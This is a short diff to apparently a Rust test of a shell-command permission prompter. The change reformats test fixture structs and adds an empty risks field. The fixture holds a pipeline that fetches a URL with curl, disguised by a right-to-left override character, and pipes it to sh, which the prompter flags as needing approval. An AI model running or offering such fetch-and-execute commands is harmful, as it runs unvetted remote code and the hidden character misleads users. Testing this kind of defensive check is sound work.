@@ -199,9 +199,17 @@ fn command(command: &str) -> Ask {
         reasons: vec!["`cargo test` runs code of the working directory".to_owned()],
         risks: vec!["network".to_owned()],
         parts: vec![
-            PartShown { text: "cargo test redirect -- --nocapture".to_owned(), state: PartState::Allowed },
-            PartShown { text: "curl -s https://example.org/a\u{202e}b".to_owned(), state: PartState::Asked },
-            PartShown { text: "sh".to_owned(), state: PartState::Asked },
+            PartShown {
+                text: "cargo test redirect -- --nocapture".to_owned(),
+                state: PartState::Allowed,
+                risks: Vec::new(),
+            },
+            PartShown {
+                text: "curl -s https://example.org/a\u{202e}b".to_owned(),
+                state: PartState::Asked,
+                risks: Vec::new(),
+            },
+            PartShown { text: "sh".to_owned(), state: PartState::Asked, risks: Vec::new() },
         ],
         offers: vec![offer(Rule {
             program: Some("cargo".to_owned()),
